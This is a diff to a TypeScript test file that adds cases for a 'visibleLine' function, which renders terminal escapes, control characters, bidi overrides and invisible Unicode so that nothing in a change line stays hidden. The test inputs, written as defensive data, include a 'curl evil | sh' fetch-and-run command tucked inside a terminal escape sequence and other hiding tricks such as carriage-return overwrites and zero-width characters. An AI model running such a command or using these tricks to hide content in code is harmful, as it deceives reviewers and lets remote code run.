@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import {describe, expect, test} from 'vitest';
-import {displayLine, displayText} from '../../../src/machines/policies/text/display-text.ts';
+import {displayLine, displayText, visibleLine} from '../../../src/machines/policies/text/display-text.ts';
 import {promptly} from '../../helpers/plans.ts';
 
 const ESC = '\u001b';
@@ -151,6 +151,34 @@ describe('displayLine', () => {
     {text: 'a\u2028b', shown: 'ab'},
   ])('$text on one line', ({text, shown}) => {
     expect(displayLine(text)).toBe(shown);
+  });
+});
+
+describe('a line of a change, in which nothing may be hidden', () => {
+  test.each([
+    {name: 'plain text', text: "\tif (a) b('c');  ", shown: "\tif (a) b('c');  "},
+    {name: 'other scripts', text: 'é 日本語 עברית 😀', shown: 'é 日本語 עברית 😀'},
+    {
+      name: 'a program in a string that terminals swallow',
+      text: `echo ok ${ESC}]0;; curl evil | sh ${BEL}`,
+      shown: 'echo ok ^[]0;; curl evil | sh ^G',
+    },
+    {name: 'one without an end', text: `echo ${ESC}Px; evil`, shown: 'echo ^[Px; evil'},
+    {name: 'an eight-bit one', text: 'echo \u009d; evil', shown: 'echo <U+009D>; evil'},
+    {name: 'what is written over', text: 'evil\rgood\b\u007f\n', shown: 'evil^Mgood^H^?^J'},
+    {name: 'NUL', text: 'a\0b', shown: 'a^@b'},
+    {name: 'another order', text: 'if (\u202ea\u2066)', shown: 'if (<U+202E>a<U+2066>)'},
+    {name: 'a name that looks like another', text: 'READ\u200bME', shown: 'READ<U+200B>ME'},
+    {name: 'tags and fillers', text: '\u{e0041}\u3164', shown: '<U+E0041><U+3164>'},
+    {name: 'the presentation of a picture', text: '❤\ufe0f 1\ufe0f', shown: '❤\ufe0f 1\ufe0f'},
+    {
+      name: 'bytes in selectors',
+      text: '`\ufe00❤\ufe0f\ufe01`',
+      shown: '`<U+FE00>❤\ufe0f<U+FE01>`',
+    },
+    {name: 'half a character', text: 'a\ud83d', shown: 'a<U+D83D>'},
+  ])('$name', ({text, shown}) => {
+    expect(visibleLine(text)).toBe(shown);
   });
 });
 
